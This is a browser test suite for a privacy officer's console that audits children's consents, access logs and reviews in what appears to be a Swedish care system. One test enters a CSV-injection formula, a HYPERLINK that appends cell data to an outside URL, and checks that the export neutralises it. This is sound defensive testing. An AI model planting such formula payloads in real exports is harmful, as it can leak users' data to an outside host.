import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoChildren } from '../../dev/demo/people.ts';
import { readSupergraph } from '../../gateway/supergraph.ts';
import { CONSENT_SCOPES } from '../../policy/scopes.ts';
import { accessibilityViolations } from '../support/axe.ts';
import { launchChromium } from '../support/browser.ts';
import { startOwnTestGraph, type OwnTestGraph } from '../support/test-graph.ts';

const screenshot = (name: string) => join(tmpdir(), `privacy-console-${name}.png`);

/** Whether the element shows at its top left and its middle, and nothing (a header, a menu) lies over it there. */
const uncovered = (locator: Locator) =>
  locator.evaluate((element) => {
    const box = element.getBoundingClientRect();
    const points = [
      [box.left + 2, box.top + 2],
      [box.left + box.width / 2, box.top + box.height / 2],
    ];
    return points.every(([x, y]) => element.contains(document.elementFromPoint(x, y)));
  });

const UUID = /[\da-f]{8}-[\da-f]{4}-[\da-f]{4}-[\da-f]{4}-[\da-f]{12}/i;

/** The privacy officer's console, in a real browser, against the real graph. */
describe('the privacy officer’s console', () => {
  let graph: OwnTestGraph;
  let browser: Browser;
  let page: Page;
  let alvasPersonnummer: string;
  let noahsPersonnummer: string;
  beforeAll(async () => {
    graph = await startOwnTestGraph();
    const personnummerOf = async (id: string) => {
      const child = await (graph.subgraphs.sip.prisma as any).child.findUnique({ where: { id } });
      return `${child.personnummer.slice(0, 8)}-${child.personnummer.slice(8)}`;
    };
    alvasPersonnummer = await personnummerOf(demoChildren.alva.id);
    // Noah's consent was recorded by a social worker, on the family's word.
    noahsPersonnummer = await personnummerOf(demoChildren.noah.id);
    // Some reads for the log and the pictures: the counsellor's, and a nurse's with no relation.
    for (const as of ['school counsellor', 'nurse outside every SIP'] as const)
      await graph.query(
        `query ($id: ID!) { child(id: $id) { careContacts { unitName } openSocialCase { caseNumber } } }`,
        { id: demoChildren.alva.id },
        as,
      );
    browser = await launchChromium();
    page = await browser.newPage({ acceptDownloads: true });
  });
  afterAll(async () => {
    await browser?.close();
    await graph?.stop();
  });
  const consoleUrl = () => new URL('/privacy/', graph.gateway.url).toString();
  const go = async (link: string) => {
    await page.getByRole('navigation').getByRole('link', { name: link }).click();
    await page.getByRole('heading', { level: 1, name: link }).waitFor();
  };

  it('says what is wrong with an empty token, or with one that is no token at all', async () => {
    // This graph runs no identity provider: the gateway names none, and the console takes a pasted token.
    expect((await fetch(new URL('/auth/config.json', graph.gateway.url))).status).toBe(404);
    await page.goto(consoleUrl());
    const token = page.getByLabel('Token (Bearer)');
    const signIn = page.getByRole('button', { name: 'Logga in', exact: true });
    await signIn.click();
    await expect.poll(() => page.getByRole('alert').textContent()).toBe('Klistra in din token för att logga in.');
    expect(await token.getAttribute('aria-invalid')).toBe('true');
    for (const broken of ['inte en token', 'eyJhbGciOiJFUzI1NiJ9.trasig', 'abc.def.ghi']) {
      await token.fill(broken);
      await signIn.click();
      await expect.poll(() => page.getByRole('alert').textContent()).toContain('Det här är ingen giltig token.');
    }
    // Nothing was sent: the sign-in page still asks for a token.
    expect(await token.isVisible()).toBe(true);
    expect(await accessibilityViolations(page)).toEqual([]);
  });

  it('opens for a privacy officer only: other roles get a clear refusal', async () => {
    await page.goto(consoleUrl());
    await page.getByLabel('Token (Bearer)').fill(await graph.token('school counsellor'));
    await page.getByRole('button', { name: 'Logga in', exact: true }).click();
    await expect.poll(() => page.getByRole('alert').textContent()).toContain('Konsolen är bara för dataskyddsombud');
    expect(await accessibilityViolations(page)).toEqual([]);
    // Its own endpoints refuse anyone else too.
    const policy = await fetch(new URL('/privacy/api/policy', graph.gateway.url), {
      headers: { authorization: `Bearer ${await graph.token('school counsellor')}` },
    });
    expect(policy.status).toBe(403);
  });

  it('signs the demo privacy officer in, and shows the pictures with their numbers', async () => {
    await page.getByRole('button', { name: 'Logga in som demo-dataskyddsombud' }).click();
    await page.getByRole('heading', { level: 1, name: 'Översikt' }).waitFor();
    await page.getByRole('heading', { name: 'Läsningar per dag och verksamhet' }).waitFor();
    await page.locator('.recharts-bar-rectangle').first().waitFor();
    expect(await page.getByRole('img', { name: /läsningar av personal under perioden/ }).count()).toBe(1);
    await page.screenshot({ path: screenshot('oversikt'), fullPage: true });
    expect(await accessibilityViolations(page)).toEqual([]);
  });

  it('reads the policy and compares the committed supergraph with a proposed one', async () => {
    await go('Policy');
    await page.getByRole('row', { name: /^Child\.careContacts Hälso/ }).waitFor();
    // What each category covers, in Swedish; the schema's English words stay in the schema.
    const policy = await page.getByRole('main').textContent();
    expect(policy).toContain(
      'Vilka vårdenheter (BUP, habilitering, vårdcentral, barnsjukvård) barnet har kontakt med.',
    );
    expect(policy).not.toContain('Which care units (BUP, habilitering, vårdcentral, paediatrics)');
    for (const { descriptions } of Object.values(CONSENT_SCOPES)) expect(policy).not.toContain(descriptions.en);

    // A file that is no supergraph is refused in words the officer reads, not the parser's.
    const brokenChooser = page.waitForEvent('filechooser');
    await page.getByLabel('Föreslagen supergraf').click();
    await (
      await brokenChooser
    ).setFiles({ name: 'supergraph.graphql', mimeType: 'text/plain', buffer: Buffer.from('type Query { trasig') });
    await page.getByRole('button', { name: 'Jämför' }).click();
    await expect
      .poll(() => page.getByRole('alert').textContent())
      .toContain('Filen kunde inte läsas som en supergraf.');
    expect(await page.getByRole('alert').textContent()).not.toMatch(
      /not a supergraph|Syntax Error|Expected|Unexpected/,
    );

    const proposed = readSupergraph().replace(
      'careContacts: [CareContact!] @join__field(graph: HEALTH) @consent(scope: "HEALTH_CARE_CONTACTS")',
      'careContacts: [CareContact!] @join__field(graph: HEALTH)',
    );
    const chooser = page.waitForEvent('filechooser');
    await page.getByLabel('Föreslagen supergraf').click();
    await (
      await chooser
    ).setFiles({ name: 'supergraph.graphql', mimeType: 'text/plain', buffer: Buffer.from(proposed) });
    await page.getByRole('button', { name: 'Jämför' }).click();
    const differences = page.getByRole('region', { name: 'Skillnader i policyn' });
    await differences.getByText('Har förlorat sitt skydd (1)').waitFor();
    expect(await differences.textContent()).toContain('Child.careContacts: @consent(HEALTH_CARE_CONTACTS) → –');
    await page.screenshot({ path: screenshot('policy'), fullPage: true });
    expect(await accessibilityViolations(page)).toEqual([]);
  });

  it('looks a child up with a purpose, shows the consents over time, and the rule at a past moment', async () => {
    await go('Ett barns samtycken');
    const personnummer = page.getByLabel('Personnummer');
    await personnummer.fill(alvasPersonnummer.slice(0, -1) + String((Number(alvasPersonnummer.at(-1)) + 1) % 10));
    await page.getByRole('button', { name: 'Sök barnet' }).click();
    await page.getByText('kontrollsiffran stämmer inte').waitFor();
    await page.getByText('ange varför du söker barnet').waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);

    await personnummer.fill(alvasPersonnummer);
    await page.getByLabel('Syfte (loggas)').fill('Granskning av samtycken');
    await page.getByRole('button', { name: 'Sök barnet' }).click();
    await page.getByRole('heading', { name: 'Alva Lindqvist' }).waitFor();
    expect(await page.getByText('ny version av samtycke').count()).toBeGreaterThan(0);
    // People by name, never by their login id: Alva's guardians gave and recorded her consents in the app.
    const alvas = (await page.getByRole('main').textContent())!;
    expect(alvas).toContain('registrerat av Maria Lindqvist');
    expect(alvas).not.toMatch(new RegExp(`registrerat av ${UUID.source}`, 'i'));

    await page.getByLabel('Läsarens enhet').fill('Ekbackens skola');
    await page.getByLabel('Läsarens användar-id').fill('staff-school-ekbacken-1');
    // Years before Alva's consents: the rule refused.
    await page.getByLabel('Tidpunkt').fill('2020-01-01T12:00');
    await page.getByRole('button', { name: 'Pröva' }).click();
    await expect.poll(() => page.getByRole('status').textContent()).toMatch(/^Nekat: /);
    await page.screenshot({ path: screenshot('barn'), fullPage: true });
    expect(await accessibilityViolations(page)).toEqual([]);

    // A consent staff recorded: the graph has no name for them, so the console says who they were, not their id.
    await personnummer.fill(noahsPersonnummer);
    await page.getByRole('button', { name: 'Sök barnet' }).click();
    await page.getByRole('heading', { name: /^Noah / }).waitFor();
    const noahs = (await page.getByRole('main').textContent())!;
    expect(noahs).toContain('registrerat av personal (socialtjänst)');
    expect(noahs).not.toMatch(new RegExp(`registrerat av ${UUID.source}`, 'i'));
  });

  it('filters the log, refuses a time range the wrong way round, and exports it as CSV', async () => {
    await go('Loggen');
    await page.getByLabel('Från').fill('2030-01-02T00:00');
    await page.getByLabel('Till').fill('2030-01-01T00:00');
    await page.getByRole('button', { name: 'Sök i loggen' }).click();
    await page.getByText('"till" ligger före "från"').waitFor();
    await page.getByLabel('Från').fill('');
    await page.getByLabel('Till').fill('');
    await page.getByLabel('Enhet').fill('Vårdcentralen Norr');
    await page.getByRole('button', { name: 'Sök i loggen' }).click();
    const rows = page.getByRole('table').getByRole('row');
    await rows.nth(1).waitFor();
    expect(await rows.nth(1).textContent()).toContain('Nekat: ingen relation till barnet');
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: /Exportera till CSV/ }).click();
    const csv = readFileSync(await (await download).path(), 'utf8');
    expect(csv.split('\r\n')[0]).toBe(
      '\uFEFFtid,barn,personnummer,läsare,användar-id,verksamhet,enhet,vad,fält,utfall,' +
        'utlämnat,samtycke,nödåtkomst,syfte',
    );
    expect(csv).toContain('Vårdcentralen Norr');
    expect(csv).toContain('nekat: ingen relation till barnet');
    await page.screenshot({ path: screenshot('logg'), fullPage: true });
    expect(await accessibilityViolations(page)).toEqual([]);

    // A purpose written as a spreadsheet formula is exported as text (CSV injection), quoted for its commas.
    const formula = '=HYPERLINK("https://example.org/?"&A1,"Klicka")';
    await page.getByLabel('Enhet').fill('');
    await page.getByLabel('Barnets personnummer').fill(alvasPersonnummer);
    await page.getByLabel('Syfte med sökningen på barnet (loggas)').fill(formula);
    await page.getByRole('button', { name: 'Sök i loggen' }).click();
    await page.getByRole('table').getByText(`Syfte: ${formula}`).first().waitFor();
    const export2 = page.waitForEvent('download');
    await page.getByRole('button', { name: /Exportera till CSV/ }).click();
    const withFormula = readFileSync(await (await export2).path(), 'utf8');
    expect(withFormula).toContain(`,"'=HYPERLINK(""https://example.org/?""&A1,""Klicka"")"\r\n`);
    expect(withFormula).not.toMatch(/(^|,)"?=/m);
  });

  it('marks an item of the review reviewed, with a note', async () => {
    await go('Granskning');
    // The officer's own lookups wait for another privacy officer (four eyes), and say so.
    await page.getByText('Din egen åtgärd: ett annat dataskyddsombud granskar den.').first().waitFor();
    const reviewable = page.getByRole('button', { name: 'Markera som granskad' });
    const first = page.getByRole('article').filter({ has: reviewable }).first();
    await first.waitFor();
    const title = await first.getByRole('heading').textContent();
    // Items within one minute may share a title: the reviewed one leaves the open items.
    const alike = page.getByRole('heading', { name: title!, exact: true });
    const open = await alike.count();
    await first.getByRole('button', { name: 'Markera som granskad' }).click();
    await first.getByText('Anteckning: skriv vad du har granskat').waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await first.getByLabel('Anteckning').fill('Kontrollerat med enheten; befogat.');
    await first.getByRole('button', { name: 'Markera som granskad' }).click();
    await expect.poll(() => alike.count()).toBe(open - 1);
    await page.getByText('Granskade', { exact: true }).click();
    await page.getByText('Kontrollerat med enheten; befogat.').waitFor();
    expect(await page.getByRole('main').textContent()).toMatch(
      /Granskad [\d-]+ [\d:]+ av Dataskyddsombud: Kontrollerat/,
    );
    await page.screenshot({ path: screenshot('granskning'), fullPage: true });

    // Every item in Swedish, and who it concerns by name or as staff, never by their id.
    await page.getByText('Alla', { exact: true }).click();
    await expect.poll(() => page.getByRole('article').count()).toBeGreaterThan(3);
    const items = page.getByRole('article');
    const review = (await page.getByRole('main').textContent())!;
    expect(review).toContain('Samtycke, muntligt, registrerat i SIP');
    expect(review).toContain('Syfte: Granskning av samtycken');
    expect(review).not.toMatch(/recorded in SIP|blocked in SIP|children read|reads under it|purpose:|CROSS_AGENCY/);
    expect(review).not.toContain('på engelska');
    for (const heading of await items.getByRole('heading').allTextContents()) expect(heading).not.toMatch(UUID);
  });

  it('works on a phone: the menu opens and closes behind a button, and covers no page', async () => {
    await page.setViewportSize({ width: 360, height: 740 });
    const menu = page.getByRole('button', { name: 'Meny' });
    const navigation = page.getByRole('navigation', { name: 'Konsolens sidor' });
    expect(await menu.count()).toBe(1);
    // The layout follows the new width on its next frame, later on a busy machine.
    await expect.poll(() => navigation.isVisible()).toBe(false);
    for (const [name, path] of [
      ['Översikt', 'oversikt'],
      ['Policy', 'policy'],
      ['Ett barns samtycken', 'barn'],
      ['Loggen', 'logg'],
      ['Granskning', 'granskning'],
    ]) {
      await menu.click();
      expect(await menu.getAttribute('aria-expanded')).toBe('true');
      await navigation.getByRole('link', { name }).click();
      const heading = page.getByRole('heading', { level: 1, name });
      await heading.waitFor();
      // Choosing a page closes the menu, and the page starts at its heading, in sight.
      await expect.poll(() => navigation.isVisible()).toBe(false);
      expect(await menu.getAttribute('aria-expanded')).toBe('false');
      expect(await uncovered(heading)).toBe(true);
      // Nothing widens the page past the phone's screen: wide tables scroll on their own.
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
      await page.screenshot({ path: screenshot(`360-${path}`), fullPage: true });
      expect(await accessibilityViolations(page)).toEqual([]);
    }
    // The button closes the menu too, and so does Escape.
    for (const close of [() => menu.click(), () => page.keyboard.press('Escape')]) {
      await menu.click();
      await navigation.getByRole('link', { name: 'Policy' }).waitFor();
      await close();
      await expect.poll(() => navigation.isVisible()).toBe(false);
    }

    await page.setViewportSize({ width: 390, height: 844 });
    await menu.click();
    await navigation.getByRole('link', { name: 'Översikt' }).click();
    const overview = page.getByRole('heading', { level: 1, name: 'Översikt' });
    await overview.waitFor();
    expect(await uncovered(overview)).toBe(true);
  });
});
